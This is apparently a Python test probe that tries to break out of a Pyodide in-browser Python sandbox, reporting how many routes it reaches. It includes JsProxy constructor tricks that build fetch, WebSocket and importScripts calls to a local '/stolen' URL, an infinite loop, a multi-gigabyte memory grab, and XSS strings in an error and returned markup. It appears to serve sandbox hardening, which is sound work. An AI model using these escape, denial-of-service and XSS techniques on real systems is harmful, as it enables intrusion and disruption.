"""Tries to get out of the page's Python: what it reaches is the result."""

import gc
import importlib
import sys


def calculate(*, what: str, address: int):
    url = f"http://127.0.0.1:{address}/stolen"
    return {"reached": sum(map(bool, TRIES[what](url))), "tries": []}


def python(url):
    """The doors of Pyodide."""
    for name in ("js", "pyodide_js", "pyodide", "pyodide.http", "pyodide.code", "_pyodide_core", "micropip", "ctypes"):
        yield importable(name)
    yield from (name in sys.modules for name in ("js", "pyodide_js", "pyodide", "pyodide.http", "_pyodide_core"))
    for finder in list(sys.meta_path):
        for name in ("js", "pyodide_js", "pyodide.http"):
            try:
                yield getattr(finder, "find_spec", lambda *_: None)(name, None) is not None
            except ImportError:
                yield False


def sockets(url):
    """Python's own ways to the network."""
    import urllib.parse

    for name in ("socket", "_socket", "ssl", "urllib.request", "http.client", "asyncio", "webbrowser", "ftplib"):
        yield importable(name)
    yield bool(urllib.parse.urlsplit(url)) and False


def objects(url):
    """Everything the interpreter holds: is an object of the browser's among it, and does it lead to its functions?"""
    for each in gc.get_objects():
        if "JsProxy" in type(each).__name__ or "pyodide.ffi" in repr(type(each)):
            for ask in (
                lambda: each.constructor.constructor(f"return fetch('{url}')")(),
                lambda: each.constructor.constructor(f"return new WebSocket('{url.replace('http', 'ws')}')")(),
                lambda: each.constructor.constructor("return globalThis")().fetch(url),
                lambda: each.constructor.constructor(f"importScripts('{url}')")(),
                lambda: each.fetch(url),
                lambda: each.loadPackage("micropip"),
            ):
                try:
                    ask()
                    yield True
                except BaseException:
                    yield False


def loop(url):
    while True:
        pass


def memory(url):
    block = bytearray(2_000_000_000)
    blocks = [block, bytearray(2_000_000_000), bytearray(2_000_000_000)]
    yield len(blocks) > 9


def raises(url):
    raise KeyError("<img src=x onerror=alert(1)>")


def markup(url):
    return ["<script>alert(1)</script>"]


def importable(name):
    try:
        return importlib.import_module(name) is not None
    except ImportError:
        return False


TRIES = {
    "python": python,
    "sockets": sockets,
    "objects": objects,
    "loop": loop,
    "memory": memory,
    "raises": raises,
    "markup": markup,
}
